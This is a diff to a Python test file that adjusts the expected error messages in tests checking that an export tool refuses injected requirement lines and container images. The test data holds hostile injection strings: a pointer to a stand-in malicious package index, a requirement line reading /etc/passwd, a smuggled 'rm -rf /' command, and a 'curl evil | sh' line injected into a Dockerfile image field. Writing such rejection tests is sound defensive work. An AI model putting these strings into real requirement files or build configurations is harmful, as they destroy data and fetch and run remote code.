@@ -97,8 +97,8 @@ def test_full_disk_leaves_no_partial_bundle(
     ("line", "message"),
     [
         ("--index-url http://evil.example/simple", "--index-url URL"),
-        ("-r /etc/passwd", "requirement line"),
-        ("torch==2.9.1 ; $(rm -rf /)", "requirement line"),
+        ("-r /etc/passwd", "requirement_lines"),
+        ("torch==2.9.1 ; $(rm -rf /)", "requirement_lines"),
     ],
 )
 def test_plan_with_injected_requirement_is_refused(
@@ -137,7 +137,7 @@ def test_plan_with_injected_image_is_refused(tmp_path: Path, kb: KnowledgeBase) 
     container = plan.container.model_copy(
         update={"runtime_image": "ubuntu:24.04\nRUN curl evil | sh"}
     )
-    with pytest.raises(ExportError, match="runtime image"):
+    with pytest.raises(ExportError, match=r"container\.runtime_image"):
         export_bundle(
             plan.model_copy(update={"container": container}),
             tmp_path / "out",
